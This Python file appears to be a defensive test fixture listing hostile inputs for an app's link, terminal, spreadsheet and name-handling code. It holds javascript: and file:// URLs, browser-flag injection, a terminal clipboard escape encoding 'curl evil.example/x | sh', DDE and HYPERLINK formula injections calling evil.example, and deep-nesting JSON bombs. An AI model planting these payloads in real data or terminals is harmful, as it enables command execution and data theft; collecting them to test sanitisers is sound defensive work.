"""Hostile inputs, as an attacker would plant them in event data, a paste, a HAR or a
spreadsheet: run through every sink that turns text into action (opening a link,
drawing and printing, writing a table, reading a name)."""

from __future__ import annotations

# --- opening a link -------------------------------------------------------------------
# Never opened: every one of these is shown as text, with why.
HOSTILE_URLS = (
    "javascript:fetch('/ws').then(()=>window.opener.pwned=1)",
    "JaVaScRiPt:alert(document.cookie)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "vbscript:msgbox(1)",
    "--renderer-cmd-prefix=touch /tmp/pwned",
    "-x",
    "--user-data-dir=/tmp/evil",
    "http:",
    "http:///no-host",
    "https://",
    "http://exa mple.com/",
    "https://example.com/\x1b]0;title\x07",
    "https://example.com/\u202eexe.txt",
    "https://\u200bexample.com/",
    "//example.com/no-scheme",
    "example.com/no-scheme",
    "mailto:someone@example.com",
    "ftp://example.com/file",
    "http://[",
    "chrome://settings",
    "about:blank",
)
# Opened: a web link with a host.
WEB_URLS = (
    "https://tickets.example.com/e/123",
    "http://127.0.0.1:8080/events/1",
    "HTTPS://EXAMPLE.COM/Upper",
    "https://example.com/a?b=c&d=-e#f",
)

# --- drawing and printing -------------------------------------------------------------
OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07"  # "curl evil.example/x | sh"
OSC0_TITLE = "\x1b]0;pwned\x07"
CSI_CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b31m"
TERMINAL_CONTROLS = (
    OSC52_CLIPBOARD,
    OSC0_TITLE,
    CSI_CLEAR,
    C1_CSI,
    "\x1bP+q544e\x1b\\",  # DCS: ask the terminal to answer
    "\x07\x08\x7f",
    "line\rover",
)
INVISIBLE = (
    "\u202eevil\u202c",  # RIGHT-TO-LEFT OVERRIDE ... POP DIRECTIONAL FORMATTING
    "\u2066iso\u2069",
    "zero\u200bwidth",
    "join\u200c\u200d",
    "word\u2060joiner",
    "\ufeffbom",
    "line\u2028separator",
)
# Names the service might send back: every one must reach the terminal as text only.
HOSTILE_TEXT = tuple(f"Casa {bad} Lisboa" for bad in TERMINAL_CONTROLS + INVISIBLE)

# Markup, to Textual and Rich: shown as sent, never a style, an action or a broken panel.
MARKUP = ("Casa [/] Lisboa", "[b]Bold[/b] Tasca", "[@click=app.quit]Quit[/]",
          "[link=javascript:alert(1)]Link[/link]", "Fado [/b]")
# Markup after a "[" that Rich's escape leaves alone (not followed by a letter) but
# Textual's parser reads as a tag: escaped the Rich way, each made invalid markup.
BRACKET_MARKUP = ("A\x1b[8m [link=javascript:alert(1)]x[/link]", "[8m [b]x[/b]",
                  "1 [2] [link=javascript:alert(1)]x", "C:\\", "a\\[b]x[/b]")

# --- writing a table ------------------------------------------------------------------
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "'=1+1",  # already quoted once: must still read back as itself
    "''-2+3",
)
# Not formulas: kept as they are.
PLAIN_CELLS = ("Northwind Labs", "-9.14", "38.72", "-5", "1e-05", "-1e-05", "a=b", "",
               "'quoted", "user@example.com")

# --- reading a name -------------------------------------------------------------------
# Folded to "Contoso Ltd": the same request, the same cache entry, the same charge.
FOLDED_NAMES = (
    "Contoso\u200b Ltd",
    "Contoso Ltd\u200b",
    "\ufeffContoso Ltd",
    "Con\u200ctoso\u200d Ltd",
    "Conto\u2060so Ltd",
    "Contoso\u00a0Ltd",
    "Contoso\u2009Ltd",
    "Contoso\u202fLtd",
    "Contoso\u3000Ltd",
    "Contoso\u205fLtd",
    "Contoso\u00ad Ltd",
    # The rest of Unicode's default ignorables, and the blanks that are letters: each
    # draws nothing, so each would be a look-alike name and a second charge.
    *(f"Con{char}toso Ltd" for char in (
        "\u034f", "\ufe00", "\ufe0f", "\u115f", "\u1160", "\u3164", "\uffa0", "\u2800",
        "\u17b4", "\u17b5", "\u180b", "\u180e", "\u180f", "\u2061", "\u2064", "\u2065",
        "\u206a", "\u206f", "\ufff0", "\ufff8", "\U0001bca0", "\U0001bca3", "\U0001d173",
        "\U0001d17a", "\U000e0001", "\U000e0041", "\U000e0100", "\U000e0fff")),
)
# Refused, free, naming the character.
REFUSED_NAMES = (
    ("Contoso\u202e Ltd", "U+202E RIGHT-TO-LEFT OVERRIDE"),
    ("Contoso\u202d Ltd", "U+202D LEFT-TO-RIGHT OVERRIDE"),
    ("Contoso\u2067 Ltd", "U+2067 RIGHT-TO-LEFT ISOLATE"),
    ("Contoso\u200f Ltd", "U+200F RIGHT-TO-LEFT MARK"),
    ("Contoso\u200e Ltd", "U+200E LEFT-TO-RIGHT MARK"),
    ("Contoso\u061c Ltd", "U+061C ARABIC LETTER MARK"),
    ("Contoso\x1b[31m Ltd", "U+001B ESCAPE"),
    ("Contoso\x9b Ltd", "U+009B CONTROL SEQUENCE INTRODUCER"),
    ("Contoso\u2028 Ltd", "U+2028 LINE SEPARATOR"),
)

# --- deep and huge JSON ---------------------------------------------------------------
# Nested past any real answer or request (the deepest real one, a menu, nests 6 levels):
# json parses 900 levels but pydantic cannot write them back; 5,000 and 200,000 levels
# raise RecursionError; an unclosed run makes a parser descend before it finds the end.
DEEP_JSON = (
    "[" * 65 + "]" * 65,
    "[" * 900 + "]" * 900,
    '{"a":' * 5_000 + "1" + "}" * 5_000,
    "[" * 200_000 + "]" * 200_000,
    "[" * 200_000,
)
# Not deep, whatever the brackets inside their strings say.
SHALLOW_JSON = (
    "[" * 64 + "]" * 64,
    '{"name": "' + "[" * 5_000 + '", "note": "\\"{{{{"}',
    '[{"a": [1, {"b": "]]]]"}]}, "}}}"]',
)


def deep_answer(levels: int) -> str:
    """A restaurant search answer with an extra field nested ``levels`` deep."""
    return ('{"location": "Lisbon", "total": 0, "results": [], "extra": '
            + "[" * levels + "]" * levels + "}")
